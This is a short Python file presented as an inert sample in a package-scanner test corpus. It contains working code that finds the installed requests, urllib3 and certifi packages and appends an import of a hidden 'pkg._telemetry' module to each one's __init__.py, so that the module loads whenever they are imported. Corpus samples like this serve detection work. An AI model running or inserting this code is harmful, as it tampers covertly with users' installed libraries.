# pkgguard corpus 741 (import-time), modelled on [taxonomy]; inert, never run.
import importlib.util

_LINE = "\ntry:\n    import pkg._telemetry  # noqa\nexcept Exception:\n    pass\n"

for name in ("requests", "urllib3", "certifi"):
    spec = importlib.util.find_spec(name)
    if spec is None or not spec.origin or not spec.origin.endswith("__init__.py"):
        continue
    with open(spec.origin, encoding="utf-8") as fh:
        source = fh.read()
    if "pkg._telemetry" not in source:
        with open(spec.origin, "a", encoding="utf-8") as fh:
            fh.write(_LINE)
